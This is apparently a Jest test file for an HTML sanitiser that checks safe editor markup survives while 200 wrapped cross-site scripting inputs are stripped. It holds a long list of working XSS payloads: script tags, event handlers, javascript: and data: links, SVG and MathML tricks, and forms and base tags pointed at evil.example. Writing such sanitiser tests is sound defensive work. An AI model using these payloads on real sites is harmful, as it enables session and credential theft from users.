// Rules: S8, D15.
import { cleanHtml } from './clean-html';

/** The cleaned nodes as markup, for reading only. */
function cleaned(html: string): string {
  const box = document.createElement('div');
  box.append(cleanHtml(html));
  return box.innerHTML;
}

test('what an editor needs stays', () => {
  const html =
    '<h2>Fees</h2><p>Free for <strong>90</strong> days.<br>See <a href="https://bank.example/fees">the list</a>.</p><ul><li>One</li></ul>';
  expect(cleaned(html)).toBe(html);
});

test.each([
  ['a script', '<p>a</p><script>steal()</script>', '<p>a</p>'],
  ['a handler', '<p onclick="steal()" onmouseover=steal()>a</p>', '<p>a</p>'],
  ['a picture and its handler', '<img src=x onerror=steal()>a', 'a'],
  ['a style sheet', '<style>p{display:none}</style><p>a</p>', '<p>a</p>'],
  ['a style, a class and an id', '<p style="position:fixed" class="dialog" id="root">a</p>', '<p>a</p>'],
  ['a javascript: link', '<a href="javascript:steal()">a</a>', '<a>a</a>'],
  ['a hidden javascript: link', '<a href=" java\tscript:steal()">a</a>', '<a>a</a>'],
  ['a data: link', '<a href="data:text/html,<script>steal()</script>">a</a>', '<a>a</a>'],
  ['a link without encryption', '<a href="http://bank.example">a</a>', '<a>a</a>'],
  [
    'a link to another host without a scheme',
    '<a href="//evil.example">a</a><a href="/\\evil.example">b</a>',
    '<a>a</a><a>b</a>',
  ],
  ['where a link opens', '<a href="/home" target="_top" ping="https://evil.example">a</a>', '<a href="/home">a</a>'],
  ['a form', '<form action="https://evil.example"><input name="pin"><button>Send</button></form>', 'Send'],
  ['a frame', '<iframe srcdoc="<script>steal()</script>"></iframe>a', 'a'],
  [
    'a drawing with a script',
    '<svg><script>steal()</script></svg><math><mi xlink:href="javascript:steal()">a</mi></math>',
    '',
  ],
  ['a new base for links', '<base href="https://evil.example"><meta http-equiv="refresh" content="0">a', 'a'],
  ['data and aria', '<p data-x="1" aria-label="Pay">a</p>', '<p>a</p>'],
])('%s is dropped', (_what, html, rest) => {
  expect(cleaned(html)).toBe(rest);
});

test('tags inside of attributes and comments do not come alive', () => {
  const nested = '<p title="</p><img src=x onerror=steal()>">a<!--><img src=x onerror=steal()>--></p>';
  expect(cleanHtml(nested).querySelectorAll('img, [onerror], [title]')).toHaveLength(0);
});

const SCRIPTS = [
  '<script>stolen()</script>',
  '<SCRIPT >stolen()</SCRIPT\t>',
  '<scr<script>ipt>stolen()</scr</script>ipt>',
  '<script src="data:text/javascript,stolen()"></script>',
  '<button onclick=stolen()>x</button>',
  '<b onclick="stolen()">x</b>',
  '<p/onmouseover=stolen()//>x',
  "<a href='java&#115;cript:stolen()'>x</a>",
  '<a href="jAvAsCrIpT&colon;stolen()">x</a>',
  '<a href="&#x01;javascript:stolen()">x</a>',
  '<a href="vbscript:stolen()">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5zdG9sZW4oKTwvc2NyaXB0Pg==">x</a>',
  '<a xlink:href="javascript:stolen()">x</a>',
  '<form action="javascript:stolen()"><button formaction="javascript:stolen()">x</button></form>',
  '<img src=x onerror=stolen()>',
  '<img src="x` `<script>stolen()</script>"` `>',
  '<svg onload=stolen()></svg>',
  '<svg><a xlink:href="javascript:stolen()"><text>x</text></a></svg>',
  '<svg><animate onbegin=stolen() attributeName=x></svg>',
  '<svg><foreignObject><b onclick=stolen()>x</b></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=stolen()&gt;">',
  '<math href="javascript:stolen()">x</math>',
  '<iframe src="javascript:stolen()"></iframe>',
  '<iframe srcdoc="<script>parent.stolen()</script>"></iframe>',
  '<object data="javascript:stolen()"></object>',
  '<embed src="javascript:stolen()">',
  '<body onload=stolen()>',
  '<input autofocus onfocus=stolen()>',
  '<details open ontoggle=stolen()>x</details>',
  '<video><source onerror=stolen()></video>',
  '<marquee onstart=stolen()>x</marquee>',
  '<style onload=stolen()>p{}</style>',
  '<link rel=stylesheet href=x onerror=stolen()>',
  '<meta http-equiv=refresh content="0;url=javascript:stolen()">',
  '<base href="javascript:stolen()//">',
  '<noscript><p title="</noscript><img src=x onerror=stolen()>"></noscript>',
  '<template><b onclick=stolen()>x</b></template>',
  '<p onclick\u2028=stolen() onclick\n=stolen()>x</p>',
  '<b style="behavior:url(#x)" onclick=stolen()>x</b>',
  '<textarea><img src=x onerror=stolen()></textarea>',
];
const AROUND: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `<p>Before ${html} after</p>`,
  (html) => `<table><tr><td>${html}</td></tr></table>`,
  (html) => `<ul><li>${html}`,
  (html) => `<!-- > ${html} --><svg></p><style>${html}</style></svg>${html}`,
];
const CASES = SCRIPTS.flatMap((html) => AROUND.map((around) => around(html)));

/** Puts the nodes on the page and fires at each of them what would run a script. @returns how often one ran */
function runsIn(nodes: Node): number {
  const stolen = jest.fn();
  Object.assign(window, { stolen });
  const box = document.createElement('div');
  document.body.append(box);
  box.append(nodes);
  for (const element of box.querySelectorAll('*'))
    for (const type of ['load', 'error', 'focus', 'mouseover', 'toggle', 'begin', 'start', 'click'])
      element.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }));
  box.remove();
  return stolen.mock.calls.length;
}

test('the page runs what is not cleaned, so that the next test means something', () => {
  const raw = document.createElement('button');
  raw.setAttribute('onclick', 'stolen()');
  expect(runsIn(raw)).toBe(1);
});

test(`of ${CASES.length} texts with a script none runs, and nothing of them stays that could`, () => {
  expect(CASES).toHaveLength(200);
  for (const html of CASES) {
    const nodes = cleanHtml(html);
    const found = [...nodes.querySelectorAll('*')];
    const attributes = found.flatMap((element) => element.getAttributeNames());
    const links = found.flatMap((element) => element.getAttribute('href') ?? []);
    const odd = found.filter((element) => !/^(p|b|a|ul|li|table|tbody|tr|td)$/.test(element.localName));
    expect([html, odd.map(({ localName }) => localName), attributes, links]).toEqual([html, [], [], []]);
    expect([html, runsIn(nodes)]).toEqual([html, 0]);
  }
});
